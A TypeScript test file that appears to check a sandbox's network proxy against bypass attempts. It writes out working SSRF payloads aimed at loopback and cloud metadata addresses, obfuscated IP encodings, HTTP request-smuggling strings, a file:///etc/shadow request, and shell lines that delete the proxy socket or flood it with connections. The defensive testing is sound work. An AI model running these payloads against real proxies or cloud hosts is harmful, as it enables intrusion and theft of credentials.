/** Ways past the rules of hosts: this machine's own server, and what is inside, must stay out of reach. */
import { ok } from "node:assert";
import { type Attack, bash, type Seen } from "./attack.ts";
import type { Scene } from "./scene.ts";

/** Of the proxy, of a client that it told no, or of one that found no way. */
const noWay =
  /Gaffer's proxy|response 4\d\d|refused|can't|failed|error|unable|rejected|reset|empty reply|no such|none found/i;

/** By the proxy that the environment names, also to what is on this machine. */
const curl = (...targets: string[]) =>
  `curl -sS -m 5 --noproxy '' ${targets.map((one) => `'${one}'`).join(" ")} 2>&1`;
/** Bytes for the proxy as they are; `\r\n` are written so. */
const raw = (text: string) =>
  `exec 5<>/dev/tcp/127.0.0.1/3128; printf '%b' '${text}' >&5; timeout 3 cat <&5`;

const past = (
  name: string,
  hosts: (scene: Scene) => string[],
  text: (scene: Scene) => string,
  more: Partial<Attack> = {},
): Attack => ({
  name,
  only: "bubblewrap",
  hosts,
  steps: (scene) => [bash(text(scene), noWay)],
  check: ({ results }: Seen) => {
    if (results[0]) ok(!/\bhere\b|HTTP\/1\.[01] 200/.test(results[0].content), results[0].content);
  },
  ...more,
});

/** The most that rules can permit: one list for most of them, so that they share hands. */
const all = ({ port }: Scene) => [
  ...["*", `*:${port}`, "169.254.169.254:80", "*.internal", "[fd00:ec2::254]:80"],
  ...["allowed.example", `allowed.example:${port}`],
];

export const proxy: Attack[] = [
  past(
    "this machine's own server, in every spelling of its address",
    all,
    ({ port }) =>
      curl(
        ...["127.0.0.1", "localhost", "127.0.0.2", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"]
          .map((host) => `http://${host}:${port}/`),
        ...["0.0.0.0", "[::]", "localhost.", "LOCALHOST"].map((host) => `http://${host}:${port}/`),
      ),
  ),
  past(
    "addresses in numbers that only some programs take for addresses",
    all,
    ({ port }) =>
      ["2130706433", "0x7f000001", "0x7f.1", "127.1", "0177.0.0.1", "017700000001"].map((host) =>
        raw(`GET http://${host}:${port}/ HTTP/1.1\\r\\n\\r\\n`)
      ).join("; "),
  ),
  past(
    "a tunnel to this machine's own server",
    all,
    ({ port }) =>
      curl("-p", `http://127.0.0.1:${port}/`, `http://localhost:${port}/`, `http://[::1]:${port}/`),
  ),
  past(
    "the credentials of a cloud machine, even where a rule names them",
    all,
    () =>
      curl(
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/latest/",
        "http://[::ffff:a9fe:a9fe]/latest/",
        "http://[fd00:ec2::254]/latest/",
        "http://metadata.google.internal/",
      ),
  ),
  past(
    "networks that are somebody's own",
    all,
    () =>
      curl("http://10.0.0.1/", "http://192.168.0.1/", "http://172.16.0.1/", "http://[fd00::1]/"),
  ),
  past(
    "another port of a host that is allowed",
    () => ["localhost:9", "127.0.0.1"],
    ({ port }) => curl("-p", `http://localhost:${port}/`, `http://127.0.0.1:${port}/`),
  ),
  past(
    "a host in front of the host",
    all,
    ({ port }) =>
      [
        `GET http://allowed.example@127.0.0.1:${port}/ HTTP/1.1\\r\\n\\r\\n`,
        `GET http://allowed.example:80@localhost:${port}/ HTTP/1.1\\r\\n\\r\\n`,
        `GET http://127.0.0.1:${port}\\\\@allowed.example/ HTTP/1.1\\r\\n\\r\\n`,
        `GET http://127.0.0.1:${port}#@allowed.example/ HTTP/1.1\\r\\n\\r\\n`,
        `CONNECT allowed.example:80@127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n`,
      ].map(raw).join("; "),
  ),
  past(
    "a Host header that differs from the address",
    all,
    ({ port }) =>
      [
        `GET http://allowed.example/ HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n`,
        `GET / HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n`,
        `GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n`,
      ].map(raw).join("; "),
  ),
  {
    ...past("a redirect from a host that is allowed", () => [], () => ""),
    ...redirecting(),
  },
  past(
    "a second request behind the first, and one hidden in its body",
    all,
    ({ port }) =>
      [
        `GET http://allowed.example/ HTTP/1.1\\r\\n\\r\\nGET http://127.0.0.1:${port}/ HTTP/1.1\\r\\n\\r\\n`,
        `POST http://allowed.example/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:${port}/ HTTP/1.1\\r\\n\\r\\n`,
        `POST http://allowed.example/ HTTP/1.1\\r\\nContent-Length: 1\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://127.0.0.1:${port}/ HTTP/1.1\\r\\n\\r\\n`,
        `GET http://127.0.0.1:${port}/\\nHost: x HTTP/1.1\\r\\n\\r\\n`,
      ].map(raw).join("; "),
  ),
  past(
    "SOCKS, FTP and a proxy behind the proxy",
    all,
    ({ port }) =>
      `${curl("--socks5-hostname", "127.0.0.1:3128", `http://127.0.0.1:${port}/`)}; ${
        curl("--socks4a", "127.0.0.1:3128", `http://127.0.0.1:${port}/`)
      }; ${raw(`GET ftp://127.0.0.1:${port}/ HTTP/1.1\\r\\n\\r\\n`)}; ${
        raw(`GET file:///etc/shadow HTTP/1.1\\r\\n\\r\\n`)
      }`,
  ),
  past(
    "the socket itself, past the relay",
    all,
    ({ port }) =>
      `curl -sS -m 5 --unix-socket /run/gaffer/proxy http://127.0.0.1:${port}/ 2>&1; ` +
      "rm -f /run/gaffer/proxy; echo x > /run/gaffer/proxy; ls /run/gaffer 2>&1",
  ),
  past(
    "headers without end",
    all,
    () =>
      `exec 5<>/dev/tcp/127.0.0.1/3128; (printf 'GET http://a.example/ HTTP/1.1\\r\\nX: '; head -c 100000 /dev/zero | tr '\\0' x) >&5; timeout 3 cat <&5`,
  ),
  past(
    "so many connections that never ask for anything",
    all,
    ({ port }) =>
      `for n in $(seq 100); do eval "exec {fd$n}<>/dev/tcp/127.0.0.1/3128"; done; ${
        curl(`http://127.0.0.1:${port}/`)
      }`,
  ),
  past(
    "names asked of the proxy as a way to tell secrets",
    () => ["allowed.example"],
    () => curl("http://a-secret.other.example/", "https://a-secret.other.example/"),
    {
      check: ({ results }) => {
        for (const { hosts = [] } of results) ok(hosts.every(({ allowed }) => !allowed));
      },
    },
  ),
  {
    name: "the way of another run, without one of its own",
    only: "bubblewrap",
    steps: ({ port }) => [
      bash(
        `curl -sS -m 5 -x http://127.0.0.1:3128 http://127.0.0.1:${port}/ 2>&1; env | grep -i proxy; ` +
          "find /run /tmp /dev /var -type s 2>/dev/null; ls /run/gaffer; echo none found",
        noWay,
      ),
    ],
    check({ results }) {
      if (results[0]) {
        ok(!/PROXY|\/run\/gaffer\/proxy/.test(results[0].content), results[0].content);
      }
    },
  },
];

/** A server that a rule names leads on to this machine's own. */
function redirecting(): Partial<Attack> {
  let from = 0;
  return {
    prepare({ port }) {
      const server = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () => Response.redirect(`http://127.0.0.1:${port}/inner`),
      );
      from = server.addr.port;
      return () => server.shutdown();
    },
    hosts: () => [`localhost:${from}`],
    steps: () => [bash(curl("-L", `http://localhost:${from}/`), noWay)],
  };
}
